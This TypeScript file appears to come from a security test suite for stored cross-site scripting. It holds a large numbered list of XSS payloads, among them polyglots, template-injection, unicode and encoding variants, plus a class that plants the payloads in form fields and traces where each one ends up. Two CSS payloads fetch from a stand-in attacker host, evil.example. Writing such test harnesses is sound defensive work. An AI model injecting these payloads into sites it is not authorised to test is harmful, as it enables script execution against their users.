// The stored-XSS crawl's payloads. A vector is one shape of attack; each
// planted payload is a vector stamped with its own number, so every string
// that goes into the database is distinct and can be traced back to the field
// it went into when a page shows it (or runs it).

export type Family = 'script' | 'attribute' | 'javascript-url' | 'svg' | 'img' | 'element' | 'css' | 'template' | 'markdown' | 'unicode' | 'polyglot' | 'encoding';

interface Vector {
	family: Family;
	make: (n: number) => string;
}

const v = (family: Family, make: (n: number) => string): Vector => ({ family, make });

/** Payloads for free text. Every live form would run alert(n), show a marker or fetch from elsewhere. */
export const TEXT_VECTORS: readonly Vector[] = [
	v('script', (n) => `<script>alert(${n})</script>`),
	v('script', (n) => `<ScRiPt>alert(${n})</sCrIpT>`),
	v('script', (n) => `<script src=data:,alert(${n})></script>`),
	v('script', (n) => `</script><script>alert(${n})</script>`),
	v('script', (n) => `</title><script>alert(${n})</script>`),
	v('script', (n) => `</textarea><script>alert(${n})</script>`),
	v('script', (n) => `<scr<script>ipt>alert(${n})</scr</script>ipt>`),
	v('script', (n) => `<script>window.top.confirm(${n})</script>`),
	v('attribute', (n) => `" onmouseover="alert(${n})`),
	v('attribute', (n) => `' onfocus='alert(${n})' autofocus='`),
	v('attribute', (n) => `"><img src=x onerror=alert(${n})>`),
	v('attribute', (n) => `'><svg onload=alert(${n})>`),
	v('attribute', (n) => `" autofocus onfocus=alert(${n}) x="`),
	v('attribute', (n) => `"/><script>alert(${n})</script>`),
	v('attribute', (n) => `\` onclick=alert(${n}) \``),
	v('attribute', (n) => `x" data-xss="${n}" onpointerover="alert(${n})`),
	v('javascript-url', (n) => `javascript:alert(${n})`),
	v('javascript-url', (n) => `JaVaScRiPt:alert(${n})`),
	v('javascript-url', (n) => `javascript&colon;alert(${n})`),
	v('javascript-url', (n) => `&#106;avascript:alert(${n})`),
	v('javascript-url', (n) => `data:text/html,<script>alert(${n})</script>`),
	v('javascript-url', (n) => `<a href="javascript:alert(${n})" data-xss>go</a>`),
	v('javascript-url', (n) => `<a href=jav&#x09;ascript:alert(${n})>go</a>`),
	v('svg', (n) => `<svg onload=alert(${n})>`),
	v('svg', (n) => `<svg><script>alert(${n})</script></svg>`),
	v('svg', (n) => `<svg><animate onbegin=alert(${n}) attributeName=x dur=1s>`),
	v('svg', (n) => `<svg><a xlink:href="javascript:alert(${n})"><text y=9>x</text></a></svg>`),
	v('svg', (n) => `<svg><set attributeName=onmouseover to=alert(${n})>`),
	v('svg', (n) => `<math><mtext><table><mglyph><style><img src=x onerror=alert(${n})>`),
	v('img', (n) => `<img src=x onerror=alert(${n})>`),
	v('img', (n) => `<img src="x" onerror="alert(${n})" data-xss="${n}">`),
	v('img', (n) => `<IMG SRC=x OnErRoR=alert(${n})>`),
	v('img', (n) => `<img/src/onerror=alert(${n})>`),
	v('img', (n) => `<img src=x:alert(alt) onerror=eval(src) alt=${n}>`),
	v('img', (n) => `<image src=x onerror=alert(${n})>`),
	v('element', (n) => `<iframe src="javascript:alert(${n})"></iframe>`),
	v('element', (n) => `<iframe srcdoc="<script>alert(${n})</script>">`),
	v('element', (n) => `<object data="javascript:alert(${n})">`),
	v('element', (n) => `<embed src="javascript:alert(${n})">`),
	v('element', (n) => `<body onload=alert(${n})>`),
	v('element', (n) => `<details open ontoggle=alert(${n})>`),
	v('element', (n) => `<input autofocus onfocus=alert(${n})>`),
	v('element', (n) => `<video><source onerror=alert(${n})></video>`),
	v('element', (n) => `<audio src=x onerror=alert(${n})>`),
	v('element', (n) => `<marquee onstart=alert(${n})>`),
	v('element', (n) => `<form action=javascript:alert(${n})><button>go</button></form>`),
	v('element', (n) => `<base href="javascript:alert(${n})//">`),
	v('element', (n) => `<meta http-equiv="refresh" content="0;url=javascript:alert(${n})">`),
	v('element', (n) => `<xss onpointerenter=alert(${n}) tabindex=1>x</xss>`),
	v('element', (n) => `<b data-xss="${n}">bold ${n}</b>`),
	v('css', (n) => `<div style="width:expression(alert(${n}))">`),
	v('css', (n) => `<style>@import 'javascript:alert(${n})';</style>`),
	v('css', (n) => `<style>*{background:url("//evil.example/${n}")}</style>`),
	v('css', (n) => `expression(alert(${n}))`),
	v('css', (n) => `</style><link rel=stylesheet href=//evil.example/${n}.css>`),
	v('css', (n) => `x{}*{background-image:url(javascript:alert(${n}))}`),
	v('template', (n) => `{{constructor.constructor('alert(${n})')()}}`),
	v('template', (n) => `\${alert(${n})}`),
	v('template', (n) => `{alert(${n})}`),
	v('template', (n) => `{@html '<img src=x onerror=alert(${n})>'}`),
	v('template', (n) => `#{alert(${n})}`),
	v('template', (n) => `<%= alert(${n}) %>`),
	v('template', (n) => `{{${n}*7}}[[${n}*7]]`),
	v('template', (n) => `{#if alert(${n})}{/if}`),
	v('markdown', (n) => `[click ${n}](javascript:alert(${n}))`),
	v('markdown', (n) => `![x](x" onerror="alert(${n}))`),
	v('markdown', (n) => `<javascript:alert(${n})>`),
	v('markdown', (n) => `[ref ${n}]: javascript:alert(${n})`),
	v('unicode', (n) => `\u05d0\u05d1<script>alert(${n})</script>\u05d2`),
	v('unicode', (n) => `\u061c<img src=x onerror=alert(${n})>\u0628`),
	v('unicode', (n) => `\uff1cscript\uff1ealert(${n})\uff1c/script\uff1e`),
	v('unicode', (n) => `<scr\u200bipt>alert(${n})</scr\u200bipt>`),
	v('unicode', (n) => `\ufeff<svg onload=alert(${n})>`),
	v('unicode', (n) => `\u2028<script>alert(${n})</script>\u2029`),
	v('unicode', (n) => `\u200f"><img src=x onerror=alert(${n})>\u200e`),
	v('unicode', (n) => `\u0430lert(${n}) <\u0455cript>`),
	v('encoding', (n) => `&lt;script&gt;alert(${n})&lt;/script&gt;`),
	v('encoding', (n) => `%3Cscript%3Ealert(${n})%3C/script%3E`),
	v('encoding', (n) => `\\u003cscript\\u003ealert(${n})\\u003c/script\\u003e`),
	v('encoding', (n) => `\\x3cimg src=x onerror=alert(${n})\\x3e`),
	v('encoding', (n) => `&#60;img src=x onerror=alert(${n})&#62;`),
	v('polyglot', (n) => `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=alert(${n}) )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(${n})//>\\x3e`),
	v('polyglot', (n) => `'"--></style></script><script>alert(${n})</script>`),
	v('polyglot', (n) => `"'><img src=x onerror=alert(${n})><"'`),
	v('polyglot', (n) => `--><svg onload=alert(${n})><!--`),
	v('polyglot', (n) => `]]><script>alert(${n})</script>`),
	v('polyglot', (n) => `<noscript><p title="</noscript><img src=x onerror=alert(${n})>">`),
	v('polyglot', (n) => `<template><script>alert(${n})</script></template>`),
	v('polyglot', (n) => `<a href="https://example.com" onclick="alert(${n})">link ${n}</a>`)
];

/** Payloads for fields that take only an http(s) address: what survives the scheme check. */
export const URL_VECTORS: readonly Vector[] = [
	v('attribute', (n) => `https://x.example/"><svg/onload=alert(${n})>`),
	v('attribute', (n) => `https://x.example/'onmouseover='alert(${n})'`),
	v('script', (n) => `https://x.example/?q=<script>alert(${n})</script>`),
	v('javascript-url', (n) => `https://x.example/#javascript:alert(${n})`),
	v('javascript-url', (n) => `https://javascript:alert(${n})@x.example/`),
	v('encoding', (n) => `https://x.example/%22%3E%3Cscript%3Ealert(${n})%3C/script%3E`),
	v('template', (n) => `https://x.example/{{constructor.constructor('alert(${n})')()}}`),
	v('template', (n) => `https://x.example/\${alert(${n})}`),
	v('img', (n) => `https://x.example/"onerror="alert(${n})"data-xss="${n}`),
	v('polyglot', (n) => `https://x.example/--></style></script><script>alert(${n})</script>`)
];

/** What a field accepts, so that every payload drawn for it is stored rather than refused. */
export interface FieldRule {
	max: number;
	/** Characters (or shapes) the field refuses or alters. */
	forbid?: RegExp;
	/** The field takes only an http(s) address. */
	url?: boolean;
}

/**
 * Refused by every free-text field: control characters and the bidi
 * embeddings, overrides and isolates. Direction marks, right-to-left letters,
 * zero-width and full-width characters pass, and are among the payloads.
 */
const REFUSED_EVERYWHERE = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\u202a-\u202e\u2066-\u2069]/;
/** Refused by single-line fields such as a name (and kept out of lists and addresses). */
export const LINE_BREAK = /[\t\n\r\u2028\u2029]/;

function fits(text: string, rule: FieldRule): boolean {
	return text.length <= rule.max && !REFUSED_EVERYWHERE.test(text) && !rule.forbid?.test(text);
}

export interface Planted {
	n: number;
	field: string;
	family: Family;
	text: string;
	/** What a page shows when it escapes the payload (the server may rename a file, say). */
	shown: string;
}

/** Hands out payloads, walking the vectors round so that every field gets a spread of them. */
export class Payloads {
	readonly planted: Planted[] = [];
	#next = 1000;
	#text = 0;
	#url = 0;

	/** `count` payloads for `field`, each recorded as planted (assert the write succeeded). */
	draw(field: string, count: number, rule: FieldRule): string[] {
		return Array.from({ length: count }, () => this.one(field, rule));
	}

	one(field: string, rule: FieldRule): string {
		const vectors = rule.url ? URL_VECTORS : TEXT_VECTORS;
		for (let tries = 0; tries < vectors.length; tries++) {
			const i = rule.url ? this.#url++ : this.#text++;
			const vector = vectors[i % vectors.length];
			const n = this.#next;
			const text = vector.make(n);
			if (!fits(text, rule)) continue;
			this.#next++;
			this.planted.push({ n, field, family: vector.family, text, shown: text });
			return text;
		}
		throw new Error(`no payload fits ${field} (${JSON.stringify(rule)})`);
	}

	/** The server stored a payload under another form (an evidence file's cleaned name): look for that on the pages. */
	shownAs(text: string, shown: string): void {
		const entry = this.planted.find((p) => p.text === text);
		if (!entry) throw new Error(`not a planted payload: ${text}`);
		entry.shown = shown;
	}

	get fields(): string[] {
		return [...new Set(this.planted.map((p) => p.field))];
	}
}

/** Whitespace as a page's text shows it: any run of it is one space. */
export const squash = (s: string) => s.replace(/\s+/g, ' ').trim();
